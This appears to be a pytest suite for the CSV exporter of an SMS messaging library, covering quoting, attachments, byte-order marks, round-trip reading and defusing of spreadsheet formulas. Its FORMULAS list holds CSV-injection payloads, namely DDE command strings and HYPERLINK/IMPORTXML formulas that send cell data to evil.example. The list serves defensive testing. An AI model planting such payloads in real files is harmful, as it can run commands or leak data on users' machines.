"""CSV: rows that any reader reads, and cells that no spreadsheet runs."""

import csv
import io
import json
from typing import Any

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smstools_async import Message, MessageFile
from smstools_async.export import csv_writer, read_csv

HELLO = Message(
    direction="inbound",
    sender="+5511987654321",
    receiver="Clinica",
    text="Olá, João",
    unix_time=1749113086,
    datetime_text="05 jun 2025, 08:44:46",
    delivery_status="DELIVERED",
)

TEXTS = st.text() | st.text("'=+\r\n,\"a1")
MESSAGES = st.builds(
    Message,
    message_id=st.none() | TEXTS.filter(bool),
    direction=TEXTS,
    sender=TEXTS | st.just("+5511987654321"),
    receiver=TEXTS,
    text=TEXTS,
    files=st.lists(st.builds(MessageFile, name=TEXTS, url=TEXTS, mime=TEXTS), max_size=3).map(
        tuple
    ),
    unix_time=st.integers(0, 10**11 - 1),
    datetime_text=TEXTS,
    delivery_status=TEXTS,
)


def _written(*messages: Message, bom: bool = False) -> str:
    stream = io.StringIO()
    with csv_writer(stream, bom=bom) as writer:
        for message in messages:
            writer.write(message)
    return stream.getvalue()


def _row(message: Message) -> dict[str, str]:
    (row,) = csv.DictReader(io.StringIO(_written(message), newline=""))
    return row


def test_row_has_the_fields_of_a_message_its_time_and_its_phone() -> None:
    """Columns are the time in ISO 8601, the phone, and the fields of a message; null is empty."""
    assert {
        "sent_at": "2025-06-05T08:44:46+00:00",
        "phone": "5511987654321",
        "message_id": "",
        "direction": "inbound",
        "sender": "+5511987654321",
        "receiver": "Clinica",
        "text": "Olá, João",
        "files": "",
        "unix_time": "1749113086",
        "datetime_text": "05 jun 2025, 08:44:46",
        "delivery_status": "DELIVERED",
    } == _row(HELLO)
    assert {"sent_at", "phone", *HELLO.to_dict()} == set(_row(HELLO))


def test_nothing_written_is_a_line_of_names() -> None:
    """A conversation without messages is a table without rows."""
    assert "\r\n" == _written()[-2:]
    assert 1 == len(_written().splitlines())


def test_files_are_json() -> None:
    """Attachments keep name, address and type in one cell."""
    files = (
        MessageFile(name='a "b", c.png', url="https://files.example/1", mime="image/png"),
        MessageFile(name="boleto.pdf", url="https://files.example/2", mime="application/pdf"),
    )
    cell = _row(attrs.evolve(HELLO, files=files))["files"]
    assert [file.to_dict() for file in files] == json.loads(cell)


@pytest.mark.parametrize(
    "text",
    ["a,b", 'say "hi"', "two\nlines", "two\r\nlines", "a\rb", "a;b", "  spaces  ", "a\x00b", "'"],
    ids=ascii,
)
def test_special_characters_stay_in_their_cell(text: str) -> None:
    """RFC 4180: separators, quotes and line breaks are part of a quoted cell."""
    assert text == _row(attrs.evolve(HELLO, text=text))["text"]


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example?x=",A1),"//a")',
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t1",
    "\r1",
    "\n1",
    "\r\n1",
    "\uff1d1+1",  # full-width twins
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
@pytest.mark.parametrize(
    "column",
    ["text", "message_id", "direction", "sender", "receiver", "datetime_text", "delivery_status"],
)
def test_formula_is_defused(column: str, text: str) -> None:
    """A cell a spreadsheet would run begins with an apostrophe, whichever column it is in."""
    changes: dict[str, Any] = {column: text}
    assert f"'{text}" == _row(attrs.evolve(HELLO, **changes))[column]


@pytest.mark.parametrize("text", ["1+1", "a=b", "ok", "", " =1", "'a=1", "'", "R$ 10", "🙏"])
def test_harmless_text_stays(text: str) -> None:
    """Only what begins like a formula is changed."""
    assert text == _row(attrs.evolve(HELLO, text=text))["text"]


@pytest.mark.parametrize("text", ["'=1", "''+1", "'\t"])
def test_apostrophes_before_a_formula_are_one_more(text: str) -> None:
    """So that the one of the export can be told from those of the writer."""
    assert f"'{text}" == _row(attrs.evolve(HELLO, text=text))["text"]


@pytest.mark.parametrize("phone", ["+5511987654321", "5511987654321"])
def test_phone_stays_readable(phone: str) -> None:
    """A plus and digits alone are a number to a spreadsheet: nothing to defuse."""
    row = _row(attrs.evolve(HELLO, sender=phone, receiver=phone))
    assert phone == row["sender"] == row["receiver"]


@pytest.mark.parametrize(
    "phone", ["+", "+55 11", "+55+11", "+55\n", "+\u0665\u0665", "-5511"], ids=ascii
)
def test_what_only_looks_like_a_phone_is_defused(phone: str) -> None:
    """Anything more than a plus and ASCII digits might be a formula."""
    assert f"'{phone}" == _row(attrs.evolve(HELLO, sender=phone))["sender"]


def test_plus_and_digits_in_a_text_are_defused() -> None:
    """The rule for phones is for the columns of phones."""
    assert "'+5511987654321" == _row(attrs.evolve(HELLO, text="+5511987654321"))["text"]


def test_byte_order_mark_is_there_when_asked_for() -> None:
    """Excel reads UTF-8 with a mark; others are better off without."""
    assert _written(HELLO, bom=True) == "\ufeff" + _written(HELLO)


def _read(text: str) -> list[Message]:
    return list(read_csv(io.StringIO(text, newline="")))


@settings(deadline=None)  # a busy machine is no failure
@given(st.lists(MESSAGES, max_size=4), st.booleans())
def test_written_messages_are_read_back_equal(messages: list[Message], bom: bool) -> None:  # noqa: FBT001 - hypothesis gives it
    """Apostrophes that were put before formulas are gone again, and those of people are not."""
    assert messages == _read(_written(*messages, bom=bom))


@pytest.mark.parametrize("text", ["", "\ufeff", "a,b\r\n", "\r\n"], ids=ascii)
def test_other_columns_are_refused(text: str) -> None:
    """What has no line of the right names was not written here."""
    with pytest.raises(ValueError, match=r"^line 1 is not a message as csv_writer writes it;"):
        _read(text)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"1749113086"', '"17491130x6"'),
        (',"DELIVERED"', ""),
        ('"DELIVERED"', '"DELIVERED","more"'),
        ('"","1749113086"', '"{","1749113086"'),
        ('"","1749113086"', '"3","1749113086"'),
        ('"","1749113086"', '"[{}]","1749113086"'),
        ("Olá", "x" * 131_073),
    ],
    ids=["number", "fewer", "more", "cut", "no list", "no file", "long"],
)
def test_line_that_is_no_message_is_named_by_its_number(old: str, new: str) -> None:
    """A damaged file is refused where it is damaged, after the good lines, without its text."""
    damaged = _written(HELLO).splitlines(keepends=True)[1].replace(old, new)
    messages = read_csv(io.StringIO(_written(HELLO) + damaged, newline=""))
    assert HELLO == next(messages)
    with pytest.raises(ValueError, match=r"^line 3 is not a message as csv_writer writes it;"):
        next(messages)
